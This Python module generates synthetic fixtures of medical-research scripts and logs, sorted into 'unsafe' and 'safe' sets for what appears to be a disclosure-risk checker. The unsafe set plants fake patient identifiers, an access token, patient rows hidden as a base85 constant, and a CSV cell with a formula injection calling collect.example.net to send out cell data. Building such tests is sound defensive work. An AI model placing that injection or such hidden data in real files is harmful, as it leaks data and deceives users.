"""Scripts (R, Python, SQL, SAS, Stata, SPSS) and logs."""

import base64

from .kit import STUDIES, fixed, ipp, matrix, name, nir, np, parts, persons, rng, table


def put(p, text):
    p.write_text(text if text.endswith("\n") else text + "\n", encoding="utf-8")


R_HEAD = """library(dplyr)
library(gtsummary)
library(survival)

coh <- readRDS("cohorte.rds") |>
  filter(age >= 18, annee %in% 2012:2022) |>
  mutate(groupe = factor(groupe), imc30 = imc >= 30)
"""
PY_HEAD = """import numpy as np
import pandas as pd
from sklearn.linear_model import LogisticRegression
from sklearn.model_selection import StratifiedKFold

SEED = 7
N_FOLDS = 5
FEATURES = ["age", "sofa", "lactate", "rrt"]
"""


def write(shelf):
    unsafe(shelf)
    unsafe_logs(shelf)
    safe(shelf)


def unsafe(shelf):
    r = rng(shelf, "x1")
    put(
        shelf.unsafe(
            "02_nettoyage.R",
            "IPP of patients in the code",
            "exclusion vector",
            "Script de nettoyage et de description de la cohorte",
        ),
        R_HEAD
        + f"\n# doublons vus avec le DIM\nexclus <- c({', '.join(repr(ipp(r)) for _ in range(6))})\ncoh <- coh |> filter(!ipp %in% exclus)\ntbl_summary(coh, by = groupe)\n",
    )
    r = rng(shelf, "x2")
    put(
        shelf.unsafe(
            "extract_dialysis.sql",
            "a NIR in a WHERE clause",
            "last condition",
            "Extraction query of the dialysis cohort",
        ),
        f"WITH d AS (\n  SELECT person_id, MIN(procedure_date) AS d0\n  FROM procedure_occurrence\n  WHERE procedure_concept_id IN (4032243, 4146536)\n  GROUP BY person_id\n)\nSELECT d.person_id, d0, p.year_of_birth\nFROM d JOIN person p USING (person_id)\nWHERE p.person_source_value <> '{nir(r)}'\nORDER BY d0;\n",
    )
    r = rng(shelf, "x3")
    d = persons(r, 34, ids=False)
    put(
        shelf.unsafe(
            "proteomique.sas", "rows of patients in datalines", "DATALINES", "Programme SAS de l'analyse protéomique"
        ),
        "libname res '/projet/res';\ndata prot;\n  input age sexe $ imc creat crp duree deces;\n  datalines;\n"
        + "\n".join(" ".join(map(str, x)) for x in d.values)
        + "\n;\nrun;\nproc glm data=prot;\n  class sexe;\n  model crp = age sexe imc / solution;\nrun; quit;\n",
    )
    r = rng(shelf, "x4")
    put(
        shelf.unsafe("train_mortality.py", "an access token", "API_TOKEN", "Training script of the mortality model"),
        PY_HEAD
        + '\nMLFLOW = "https://mlflow.intra"\nAPI_TOKEN = "ghp_'
        + "".join(r.choice(list("abcdefghijklmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789"), 36))
        + '"\n\nX, y = pd.read_parquet("coh.parquet")[FEATURES], pd.read_parquet("y.parquet").death\nm = LogisticRegression(C=0.5).fit(X, y)\nprint(m.coef_)\n',
    )
    r = rng(shelf, "x5")
    n = name(r)
    put(
        shelf.unsafe(
            "fonctions_phenotype.R",
            "name and phone of a person in a comment",
            "comment above the function",
            "Fonctions de phénotypage",
        ),
        R_HEAD
        + f"\n# cas de M. {n} (rappeler la fille au 06 {r.integers(10, 99)} {r.integers(10, 99)} {r.integers(10, 99)} {r.integers(10, 99)}) : deux séjours le même jour\nfusionne <- function(x) {{\n  x |> group_by(id, jour) |> slice_head(n = 1) |> ungroup()\n}}\n",
    )
    r = rng(shelf, "x6")
    put(
        shelf.unsafe(
            "simulate_power.py",
            "rows of patients encoded in a constant",
            "_TEST_VECTOR",
            "Power simulation for the next trial",
        ),
        PY_HEAD
        + f'\n_TEST_VECTOR = """{base64.b85encode(persons(r, 140).to_csv(index=False).encode()).decode()}"""\n\ndef power(n, delta, sims=2000):\n    rng = np.random.default_rng(SEED)\n    z = (rng.normal(delta, 1, (sims, n)).mean(1) - rng.normal(0, 1, (sims, n)).mean(1)) / np.sqrt(2 / n)\n    return (abs(z) > 1.96).mean()\n\nprint(power(200, 0.3))\n'.replace(
            '"""', "'''"
        ),
    )
    r = rng(shelf, "x7")
    put(
        shelf.unsafe(
            "tables_suppl.do",
            "results pasted as a comment with 5 deaths",
            "comment after tab",
            "Do-file Stata des tableaux supplémentaires",
        ),
        "use cohorte, clear\nkeep if inrange(annee, 2017, 2023)\ntab kdigo deces, row\n/* résultat du 2e passage :\n   KDIGO 3, valve : 44 patients, 5 décès  */\nlogit deces i.kdigo age i.chirurgie, or\nestimates store m1\nesttab m1 using t2.tex, replace eform ci\n",
    )


def unsafe_logs(shelf):
    r = rng(shelf, "l1")
    put(
        shelf.unsafe(
            "analyse.log",
            "frequency of 3 in a Stata table",
            "tab output",
            "Journal Stata de l'analyse des complications",
            STUDIES["maternite"].pop,
        ),
        "      name:  <unnamed>\n       log:  /projet/analyse.log\n  log type:  text\n\n. tab complication\n\n  Complication |      Freq.     Percent        Cum.\n---------------+-----------------------------------\n        Aucune |      4,412       90.60       90.60\n    Hémorragie |        341        7.00       97.60\n      Endométrite |      114        2.34       99.94\n Rupture utérine |          3        0.06      100.00\n---------------+-----------------------------------\n         Total |      4,870      100.00\n\n. logit cesarienne i.declenchement imc\n\nNumber of obs = 4,870\n",
    )
    r = rng(shelf, "l2")
    put(
        shelf.unsafe(
            "train_20240412.log",
            "single misclassified patients with their values",
            "lines ERROR ANALYSIS",
            "Training log of the deterioration model",
            STUDIES["sepsis"].pop,
        ),
        "\n".join(
            [
                f"2024-04-12 09:{i:02d}:11 INFO epoch {i}/12 loss={0.6 * 0.93**i:.4f} val_auc={0.7 + 0.006 * i:.3f}"
                for i in range(1, 13)
            ]
            + ["2024-04-12 09:14:02 DEBUG ERROR ANALYSIS top false negatives"]
            + [
                f"2024-04-12 09:14:02 DEBUG   idx={r.integers(0, 2316)} age={r.integers(40, 88)} sofa={r.integers(6, 17)} lactate={r.gamma(2, 2):.1f} p={r.uniform(0.01, 0.06):.3f} label=1"
                for _ in range(10)
            ]
        ),
    )
    r = rng(shelf, "l3")
    d = persons(r, 6)
    put(
        shelf.unsafe(
            "proc_print.lst",
            "PROC PRINT of single observations",
            "Obs 1 to 6",
            "Sortie SAS du tableau de bord psychiatrie",
            STUDIES["psy"].pop,
        ),
        "                         The SAS System\n\nObs    "
        + d.to_string().replace("\n", "\n  ")
        + "\n\n                    The FREQ Procedure\n\nreadm    Frequency    Percent\n    0        969       70.99\n    1        396       29.01\n",
    )
    r = rng(shelf, "l4")
    put(
        shelf.unsafe(
            "summary_lm.Rout",
            "Residuals line gives minimum and maximum of single persons",
            "Residuals: Min and Max",
            "R output of the linear model of eGFR",
            STUDIES["diab"].pop,
        ),
        "> summary(lm(egfr ~ age + hba1c + sglt2, data = d))\n\nCall:\nlm(formula = egfr ~ age + hba1c + sglt2, data = d)\n\nResiduals:\n    Min      1Q  Median      3Q     Max \n-61.274 -12.903   0.418  13.117  72.951 \n\nCoefficients:\n            Estimate Std. Error t value Pr(>|t|)    \n(Intercept) 131.4021     2.6617  49.367  < 2e-16 ***\nage          -0.8233     0.0241 -34.162  < 2e-16 ***\nhba1c        -0.4310     0.2010  -2.144   0.0321 *  \nsglt2         1.7710     0.5302   3.340   0.0008 ***\n---\nResidual standard error: 18.84 on 5408 degrees of freedom\nMultiple R-squared:  0.1866\n",
    )
    r = rng(shelf, "l5")
    n = name(r).split()
    put(
        shelf.unsafe(
            "nextflow_ocr.log", "name of a patient in a path", "WARN line", "Log of the text pipeline", "600 reports"
        ),
        "\n".join(
            [f"Mar-04 10:0{i}:21.114 [main] INFO  nextflow - process > OCR ({60 * i} of 600)" for i in range(1, 8)]
            + [
                f"Mar-04 10:08:40.020 [Task monitor] WARN  nextflow - empty text: /data/crh/{n[1].upper()}_{n[0]}_19570211/crh_03.pdf",
                "Mar-04 10:09:02.331 [main] INFO  nextflow - process > OCR (600 of 600) done",
            ]
        ),
    )
    r = rng(shelf, "l6")
    put(
        shelf.unsafe(
            "spss_output.txt",
            "a zero cell of a real group (no death among 86 patients with a pump)",
            "Crosstab, Apomorphine pump = yes",
            "SPSS cross table of pump and death",
            STUDIES["park"].pop,
        ),
        "CROSSTABS /TABLES=pump BY death.\n\npump * death Crosstabulation\nCount\n                     death\n             alive    dead    Total\npump  no       488      38      526\n      yes       86       0       86\nTotal          574      38      612\n\nPearson Chi-Square 6.62, df 1, p = ,010\n",
    )
    r = rng(shelf, "l7")
    put(
        shelf.unsafe(
            "log_export.csv",
            "formula injection",
            "cell of the comment column, line 6",
            "Journal d'export des tableaux agrégés",
            "Sans données de personnes",
        ),
        'etape;fichier;lignes;commentaire\n1;tableau1.csv;24;ok\n2;tableau2.csv;31;ok\n3;figure1.png;;ok\n4;tableau3.csv;18;=HYPERLINK("http://collect.example.net/?x="&A1;"voir")\n5;annexe.pdf;;ok\n',
    )


def safe(shelf):
    put(
        shelf.safe("01_cohorte.R", "ages, years and codes in a script", "Script R de constitution de la cohorte"),
        R_HEAD
        + "\ncodes <- c('I63', 'I64', 'G45')\ncoh <- coh |> filter(substr(dp, 1, 3) %in% codes, duree >= 1)\nt1 <- tbl_summary(coh, by = groupe, statistic = all_continuous() ~ '{median} ({p25}, {p75})')\nsuppr <- function(n) ifelse(n < 10, NA, n)\nm <- coxph(Surv(temps, deces) ~ groupe + age + nihss, data = coh)\nsave_as_docx(as_flex_table(t1), path = 'tableau1.docx')\n",
    )
    put(
        shelf.safe(
            "evaluate_model.py", "constants below ten, a threshold of small cells", "Evaluation script of the model"
        ),
        PY_HEAD
        + "\nMIN_CELL = 10\n\n\ndef evaluate(X, y):\n    out = []\n    for k, (tr, te) in enumerate(StratifiedKFold(N_FOLDS, shuffle=True, random_state=SEED).split(X, y), 1):\n        m = LogisticRegression(max_iter=500).fit(X[tr], y[tr])\n        out.append((k, m.score(X[te], y[te])))\n    return pd.DataFrame(out, columns=['fold', 'accuracy'])\n\n\nif __name__ == '__main__':\n    df = pd.read_parquet('cohort.parquet')\n    print(evaluate(df[FEATURES].to_numpy(), df['death28'].to_numpy()))\n",
    )
    put(
        shelf.safe(
            "chirurgie_cardiaque.sql",
            "dates that are limits of the study, ten-digit concept ids beginning with 80",
            "Requête de sélection des interventions sous CEC",
        ),
        "-- période d'étude : du 01/01/2017 au 31/12/2023\nSELECT EXTRACT(YEAR FROM procedure_date) AS annee, procedure_concept_id, COUNT(DISTINCT person_id) AS n\nFROM procedure_occurrence\nWHERE procedure_date BETWEEN '2017-01-01' AND '2023-12-31'\n  AND procedure_concept_id IN (8002310457, 8002310463, 4336464)\nGROUP BY 1, 2\nHAVING COUNT(DISTINCT person_id) >= 10;\n",
    )
    put(
        shelf.safe("phreg_hip.sas", "a macro with numbers 1 to 5", "SAS program of the survival analysis"),
        "%macro imp(m=5);\nproc mi data=hip nimpute=&m seed=20 out=mi; var age hb delay; run;\n%do i=1 %to &m;\nproc phreg data=mi(where=(_imputation_=&i));\n  class asa(ref='II') cemented(ref='0') / param=ref;\n  model time*death(0) = cemented age asa hb / risklimits;\nrun;\n%end;\n%mend;\n%imp(m=5)\n",
    )
    put(
        shelf.safe("tableaux.do", "options with small numbers", "Do-file des tableaux principaux"),
        'version 18\nuse ira, clear\nlabel define k 0 "Absence" 1 "Stade 1" 2 "Stade 2" 3 "Stade 3"\nlabel values kdigo k\ndtable age i.sexe i.kdigo, by(chirurgie) nformat(%9.1f mean sd)\nmelogit ira c.age##i.chirurgie || centre:, or\nmargins chirurgie, atmeans\nmarginsplot, recast(bar)\n',
    )
    s, r = STUDIES["geri"], rng(shelf, "ls1")
    put(
        shelf.safe(
            "tables_geri.Rout",
            "R output of table 1 and of a logistic model",
            "R output of the delirium analysis",
            s.pop,
        ),
        "> print(CreateTableOne(data = d, strata = 'arm'))\n"
        + "\n".join(fixed(*matrix(s, table(s, r))))
        + "\n> summary(m)\n\nCoefficients:\n             Estimate Std. Error z value Pr(>|z|)    \n(Intercept)  -2.14180    0.21470  -9.976  < 2e-16 ***\narmProgramme -0.31140    0.10760  -2.894  0.00380 ** \ndementia      0.88210    0.10810   8.160 3.35e-16 ***\n\n    Null deviance: 2212.4  on 2097  degrees of freedom\nResidual deviance: 2128.9  on 2095  degrees of freedom\nAIC: 2134.9\n\nNumber of Fisher Scoring iterations: 4\n",
    )
    r = rng(shelf, "ls2")
    put(
        shelf.safe(
            "entrainement_unet.log",
            "time stamps of the machine and epochs",
            "Journal d'entraînement du réseau de segmentation",
            STUDIES["eye"].pop,
        ),
        "\n".join(
            f"2024-02-06 14:{2 + i:02d}:{r.integers(0, 60):02d} INFO  epoch={i:02d} lr={1e-3 * 0.9**i:.2e} train_dice={0.9 - 0.4 * np.exp(-i / 7):.4f} val_dice={0.87 - 0.4 * np.exp(-i / 7) + r.normal(0, 0.004):.4f} gpu=1 batch=8"
            for i in range(1, 41)
        ),
    )
    s, r = STUDIES["codage"], rng(shelf, "ls3")
    n = parts(r, 31870, [52, 26, 15, 7])
    put(
        shelf.safe(
            "freq_severite.lst",
            "cumulated frequencies with steps over 2 000",
            "Sortie SAS PROC FREQ par niveau de sévérité",
            s.pop,
        ),
        "                    The FREQ Procedure\n\n                                  Cumulative    Cumulative\nniveau    Frequency    Percent     Frequency       Percent\n----------------------------------------------------------\n"
        + "\n".join(
            f"{i + 1:>6}{k:>13}{100 * k / 31870:>11.2f}{c:>14}{100 * c / 31870:>14.2f}"
            for i, (k, c) in enumerate(zip(n, np.cumsum(n)))
        ),
    )
    put(
        shelf.safe("pytest_ci.txt", "counts of tests and versions", "Test log of the pipeline (no patient data)"),
        "============================= test session starts ==============================\nplatform linux -- Python 3.11.7, pytest-8.1.1\ncollected 47 items\n\ntests/test_cohort.py ........                                            [ 17%]\ntests/test_models.py .........................                           [ 70%]\ntests/test_tables.py ......ss......                                      [100%]\n\n=================== 45 passed, 2 skipped, 3 warnings in 8.41s ===================\n",
    )
    r = rng(shelf, "ls5")
    put(
        shelf.safe(
            "lightgbm_train.log",
            "iterations and leaves of 31",
            "Journal LightGBM du modèle de transfert",
            STUDIES["ped"].pop,
        ),
        "[LightGBM] [Info] Number of positive: 310, number of negative: 2273\n[LightGBM] [Info] Total Bins 212\n[LightGBM] [Info] Number of data points in the train set: 2583, number of used features: 9\n"
        + "\n".join(
            f"[{i * 10}]\tvalid_0's auc: {0.74 + 0.01 * i - 0.0006 * i * i:.5f}\tvalid_0's binary_logloss: {0.35 - 0.008 * i + 0.0005 * i * i:.5f}"
            for i in range(1, 11)
        )
        + "\nEarly stopping, best iteration is:\n[83]",
    )
    s, r = STUDIES["transpl"], rng(shelf, "ls6")
    put(
        shelf.safe("spss_greffe.txt", "Sig. and df of SPSS", "Sortie SPSS du modèle de Cox", s.pop),
        "COXREG duree /STATUS=dialyse(1) /METHOD=ENTER dsa age_donneur ischemie.\n\nCase Processing Summary\n  Event            176   17,0%\n  Censored         858   83,0%\n  Total           1034  100,0%\n\nVariables in the Equation\n                 B      SE     Wald   df   Sig.   Exp(B)\ndsa            ,812   ,158   26,412    1   ,000    2,252\nage_donneur    ,014   ,005    7,840    1   ,005    1,014\nischemie       ,021   ,012    3,063    1   ,080    1,021\n",
    )
